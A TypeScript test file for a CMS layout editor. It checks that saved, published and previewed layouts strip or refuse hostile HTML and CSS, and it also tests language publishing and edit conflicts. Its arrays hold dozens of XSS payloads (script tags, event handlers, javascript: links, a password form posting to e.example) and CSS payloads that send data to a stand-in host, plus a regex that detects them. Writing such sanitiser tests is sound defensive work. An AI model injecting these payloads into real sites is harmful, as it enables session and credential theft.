import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { z } from "zod";
import type { ContentDraft } from "@/lib/contract/content/draft";
import type { PageDetail, PagePlace } from "@/lib/contract/page";
import type { PreviewedLayout, pageLayoutsSchema } from "@/lib/contract/page-layout";
import type { Layout } from "@/lib/layout/layout";
import { scopedCss } from "@/lib/layout/scoped-css";
import { activeMarkup } from "@/simulations/hostile/active-markup";
import { activeStyle } from "@/simulations/hostile/active-style";
import { logIn } from "@/testing/logged-in";
import { openTestPlatform, type TestPlatform } from "@/testing/test-platform";

let platform: TestPlatform;
let staff: Record<string, string>;
let idPage: number;

beforeAll(async () => {
  platform = await openTestPlatform();
  const { page } = await platform.data<PagePlace>("GET", "/page/at?path=%2Fgrape");
  idPage = page.id;
});
afterAll(() => platform.close());
beforeEach(async () => {
  staff = (await logIn(platform, "ADMIN")).headers;
});

const MARKUP = [
  "<script>steal()</script>",
  "<ScRiPt src=//e.example/x.js></ScRiPt>",
  "<script type=module>import('//e.example')</script>",
  "<img src=x onerror=steal()>",
  '<img src="/media/a.webp" onload="steal()">',
  "<p onclick='steal()'>Mot</p>",
  "<p ONMOUSEOVER=steal()>Mot</p>",
  "<details ontoggle=steal() open><summary>Mot</summary></details>",
  "<video onloadstart=steal() src=/media/a.mp4></video>",
  "<body onload=steal()>Mot</body>",
  "<svg onload=steal()></svg>",
  "<svg><script>steal()</script></svg>",
  "<svg><animate onbegin=steal() attributeName=x /></svg>",
  "<svg><a xlink:href='javascript:steal()'><text>Mot</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=steal()>#x'/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
  "<math href='javascript:steal()'>Mot</math>",
  "<a href='javascript:steal()'>Mot</a>",
  "<a href='JaVaScRiPt:steal()'>Mot</a>",
  "<a href=' &#14; javascript:steal()'>Mot</a>",
  "<a href='java&#9;script:steal()'>Mot</a>",
  "<a href='data:text/html,<script>steal()</script>'>Mot</a>",
  "<a href='vbscript:steal()'>Mot</a>",
  "<a href='blob:https://e.example/x'>Mot</a>",
  "<img src='data:image/svg+xml,<svg onload=steal()>'>",
  "<img src='javascript:steal()'>",
  "<img srcset='javascript:steal() 1x'>",
  "<video poster='javascript:steal()' src='/media/a.mp4'></video>",
  "<iframe src='//e.example'></iframe>",
  "<iframe srcdoc='<script>steal()</script>'></iframe>",
  "<frameset><frame src='javascript:steal()'></frameset>",
  "<object data='//e.example/x.swf'></object>",
  "<embed src='//e.example/x.swf'>",
  "<applet code=x></applet>",
  "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
  "<meta http-equiv=set-cookie content='a=b'>",
  "<base href='//e.example/'>",
  "<link rel=stylesheet href='//e.example/x.css'>",
  "<link rel=import href='//e.example/x.html'>",
  "<style>@import '//e.example/x.css'</style>",
  "<form action='//e.example'><input name=password><button>Mot</button></form>",
  "<form><button formaction='javascript:steal()'>Mot</button></form>",
  "<input onfocus=steal() autofocus>",
  "<select onfocus=steal() autofocus><option>Mot</option></select>",
  "<textarea autofocus onfocus=steal()></textarea>",
  "<isindex action=javascript:steal() type=image>",
  "<p style='background:url(//e.example/x)'>Mot</p>",
  "<p style='width:expression(steal())'>Mot</p>",
  "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
  "<template><script>steal()</script></template>",
  "<!--><img src=x onerror=steal()>-->",
  "<![CDATA[<img src=x onerror=steal()>]]>",
  "<p title='\"><script>steal()</script>'>Mot</p>",
  "<img alt='\"><script>steal()</script>' src='/media/a.webp'>",
  "<p data-text='k1' onclick=steal()></p>",
  "<p data-text='\"><script>steal()</script>'></p>",
  "<div data-component='x' onclick=steal()></div>",
  "<custom-element onclick=steal()>Mot</custom-element>",
  "<marquee onstart=steal()>Mot</marquee>",
  "<portal src='//e.example'></portal>",
  "<dialog open onclose=steal()>Mot</dialog>",
  "<audio src=x onerror=steal()></audio>",
  "<xmp><p title='</xmp><img src=x onerror=steal()>'></xmp>",
  "<plaintext><script>steal()</script>",
  "<p slot=x is=y onpointerenter=steal()>Mot</p>",
];

const STYLES = [
  "@import '//e.example/x.css';",
  "@import url(//e.example/x.css);",
  "@IMPORT '//e.example/x.css';",
  "@font-face{font-family:x;src:url(//e.example/x.woff2)}",
  "p{background:url(//e.example/x)}",
  "p{background:URL( 'https://e.example/x' )}",
  "p{background:url(javascript:steal())}",
  "p{background:image-set('//e.example/x' 1x)}",
  "p{width:expression(steal())}",
  "p{behavior:url(x.htc)}",
  "p{-moz-binding:url(//e.example/x.xml)}",
  "p{background:u\\72l(//e.example/x)}",
  "p{position:fixed;inset:0}",
  "input[value^=a]{background:url(//e.example/a)}",
  "p{content:'</style><script>steal()</script>'}",
  "@namespace url(http://www.w3.org/1999/xhtml);",
  "@charset 'utf-7';p{color:red}",
  "p{cursor:url(//e.example/x.cur),auto}",
  "p{list-style-image:url(//e.example/x)}",
  "p{--x:url(//e.example/x);background:var(--x)}",
];

/** What no style sheet of a layout is kept with. */
const LEADS_AWAY =
  /url\(|image-set\(|expression\(|javascript:|@import|@font-face|@namespace|@charset|behavior|-moz-binding|fixed|<|\\/i;

const read = () =>
  platform.data<ContentDraft>("GET", `/admin/content/page/${idPage}`, { headers: staff });

/** Saves the layout of the page with something changed; undefined where that is refused. */
async function saved(change: (layout: Layout) => void): Promise<ContentDraft | undefined> {
  const { values, words, version } = structuredClone(await read());
  change(values.layout as unknown as Layout);
  const { status, answer } = await platform.call<ContentDraft>(
    "PUT",
    `/admin/content/page/${idPage}`,
    { headers: { ...staff, "If-Match": version }, body: { values, words } },
  );
  if (answer.success) return answer.data;
  expect(status).toBe(422);
  return undefined;
}

async function published(draft: ContentDraft): Promise<PageDetail> {
  await platform.data("PUT", `/admin/content/page/${idPage}/publication/fr_FR`, {
    headers: { ...staff, "If-Match": draft.version },
    body: {},
  });
  return platform.data<PageDetail>("GET", `/page/${idPage}`);
}

async function previewed(html: string, css = ""): Promise<PreviewedLayout> {
  type Layouts = z.output<typeof pageLayoutsSchema>;
  const { layouts } = await platform.data<Layouts>("GET", `/admin/page/${idPage}/layout`, {
    headers: staff,
  });
  const body = new FormData();
  body.set("html", html);
  body.set("css", css);
  const { path } = await platform.data<{ path: string }>(
    "PUT",
    `/admin/page/${idPage}/layout/${layouts[0]?.id}/preview`,
    { headers: staff, body },
  );
  return platform.data("GET", `/page/preview/${path.split("/").at(-1)}`);
}

const htmlOf = ({ content }: PageDetail) => (content.type === "GRAPE" ? content.html : "");
const cssOf = ({ content }: PageDetail) => (content.type === "GRAPE" ? content.css : "");

describe.each(MARKUP)("markup in a layout: %s", (markup) => {
  it("comes to nothing that acts, in structure, text and preview", async () => {
    const kept = await saved((layout) => {
      layout.html = `<section><p data-text="t1"></p>${markup}</section>`;
      layout.texts = [{ key: "t1", text: { fr_FR: `Un mot ${markup}`, en: "A word" } }];
    });
    if (!kept) return;
    const layout = kept.values.layout as unknown as Layout;
    expect(activeMarkup(layout.html)).toEqual([]);
    expect(activeMarkup(String(layout.texts[0]?.text.fr_FR))).toEqual([]);
    const html = htmlOf(await published(kept));
    expect(html).toContain("Un mot");
    expect(activeMarkup(html)).toEqual([]);
    expect(html).not.toContain("data-text");
    expect(activeMarkup((await previewed(markup)).html)).toEqual([]);
  });
});

describe.each(STYLES)("a style in a layout: %s", (style) => {
  it("leads nowhere, in style sheet, looks and preview", async () => {
    for (const field of ["css", "styles"] as const) {
      const kept = await saved((layout) => {
        layout[field] = `h2{color:gold}\n${style}`;
      });
      if (!kept) continue;
      expect(String((kept.values.layout as unknown as Layout)[field])).not.toMatch(LEADS_AWAY);
      const css = cssOf(await published(kept));
      expect(activeStyle(css)).toEqual([]);
    }
    const preview = await previewed("<p>Mot</p>", style);
    expect(activeStyle(scopedCss(preview.css, ".layout-x"))).toEqual([]);
  });
});

it.each(["javascript:steal()", "data:text/html,x", "vbscript:x", "//e.example", " javascript:x"])(
  "refuses a link to %s at its field",
  async (address) => {
    const { values, words, version } = structuredClone(await read());
    const layout = values.layout as unknown as Layout;
    layout.html = '<a data-text-href="a1" data-text="t1"></a>';
    layout.addresses = [{ key: "a1", text: { fr_FR: address, en: "/contact" } }];
    const { status, answer } = await platform.call("PUT", `/admin/content/page/${idPage}`, {
      headers: { ...staff, "If-Match": version },
      body: { values, words },
    });
    expect(status).toBe(422);
    expect(answer.success === false && answer.data.errors).toHaveProperty([
      "values.layout.addresses.0.text.fr_FR",
    ]);
  },
);

it("asks for the words of a language before that is published, each at its field", async () => {
  const draft = await saved((layout) => {
    layout.html = '<h2 data-text="t1"></h2>';
    layout.texts = [{ key: "t1", text: { fr_FR: "Titre", en: "" } }];
    layout.addresses = [];
  });
  const publish = (code: string, version = "") =>
    platform.call<ContentDraft>("PUT", `/admin/content/page/${idPage}/publication/${code}`, {
      headers: { ...staff, "If-Match": version },
      body: {},
    });
  const refused = await publish("en", draft?.version);
  expect(refused.answer.success === false && refused.answer.data.errors).toHaveProperty([
    "values.layout.texts.0.text.en",
  ]);
  expect((await publish("fr_FR", draft?.version)).status).toBe(200);
});

it("tells the second of two who write the layout, and keeps what the first has saved", async () => {
  const { values, words, version } = structuredClone(await read());
  const first = await saved((layout) => {
    layout.styles = "h2{color:gold}";
  });
  expect(first).toBeDefined();
  (values.layout as unknown as Layout).styles = "h2{color:red}";
  const { status, answer } = await platform.call("PUT", `/admin/content/page/${idPage}`, {
    headers: { ...staff, "If-Match": version },
    body: { values, words },
  });
  expect([status, answer.success === false && answer.data.code]).toEqual([409, "STALE"]);
  expect(((await read()).values.layout as unknown as Layout).styles).toBe("h2{color:gold}");
});
